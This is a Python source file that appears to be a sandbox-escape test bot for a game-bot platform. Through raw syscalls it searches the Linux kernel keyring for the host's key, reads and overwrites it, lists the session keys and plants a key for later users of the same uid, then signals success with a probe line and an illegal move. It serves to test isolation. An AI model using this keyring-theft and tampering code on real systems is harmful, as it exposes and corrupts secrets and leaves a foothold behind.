"""Hostile bot: goes for the kernel keyring. It looks for the host's key (the description in
targets.json) through its session keyring (keyctl search, request_key), reads it and
overwrites it, lists its session keyring, and adds a key (targets.json's `leave`) to its
uid's user keyring for whoever gets that uid next. Prints each attempt's outcome (`ok...` or
the error's name) and its uid as a `PROBE {...}` line; if any worked, it plays an illegal
action."""

import ctypes
import errno
import json
import os
import platform
from pathlib import Path

from maag.clients import Bot, TurnResult, run_bot_blocking

here = Path(__file__).parent
targets = json.loads((here / "targets.json").read_text()) if (here / "targets.json").exists() else {}
NR = {"x86_64": {"add_key": 248, "request_key": 249, "keyctl": 250},
      "aarch64": {"add_key": 217, "request_key": 218, "keyctl": 219}}[platform.machine()]
KEYCTL_UPDATE, KEYCTL_SEARCH, KEYCTL_READ = 2, 10, 11
SESSION, USER = -3, -4
libc = ctypes.CDLL(None, use_errno=True)


def call(name, *args):
    """(result, None) or (-1, the error's name)."""
    r = libc.syscall(ctypes.c_long(NR[name]), *args)
    if r < 0:
        return r, errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
    return r, None


attempts = {}
desc = targets.get("description", "maag-canary").encode()
found = None
r, err = call("keyctl", KEYCTL_SEARCH, ctypes.c_long(SESSION), b"user", desc, 0)
attempts["search"] = err or "ok"
found = r if err is None else None
r, err = call("request_key", b"user", desc, None, 0)
attempts["request"] = err or "ok"
found = found or (r if err is None else None)
if found is not None:
    buf = ctypes.create_string_buffer(4096)
    n, err = call("keyctl", KEYCTL_READ, ctypes.c_long(found), buf, 4096)
    attempts["read"] = err or "ok:" + buf.raw[:n].decode(errors="replace")
    new = b"overwritten by a bot"
    _, err = call("keyctl", KEYCTL_UPDATE, ctypes.c_long(found), new, len(new))
    attempts["update"] = err or "ok"
buf = ctypes.create_string_buffer(4096)
n, err = call("keyctl", KEYCTL_READ, ctypes.c_long(SESSION), buf, 4096)
attempts["session"] = err or f"ok:{n // 4} keys"
if targets.get("leave"):
    data = b"left by a bot"
    _, err = call("add_key", b"user", targets["leave"].encode(), data, len(data), ctypes.c_long(USER))
    attempts["leave"] = err or "ok"
BREACHED = any(v.startswith("ok") and v != "ok:0 keys" for v in attempts.values())
print("PROBE " + json.dumps({"probe": "keyring", "attempts": attempts, "uid": os.getuid(),
                             "breached": BREACHED}), flush=True)


class Probe(Bot):
    name = "keyring-reader"
    want_legal = True
    games = (os.environ.get("MAAG_GAME", "nim"),)

    def choose_turn(self, observation, limit):
        return TurnResult([{"type": "take", "pile": 0, "count": 99} if BREACHED else observation.legal[0]])


run_bot_blocking(Probe, os.environ["MAAG_CONNECT"], token=os.environ["MAAG_TOKEN"])
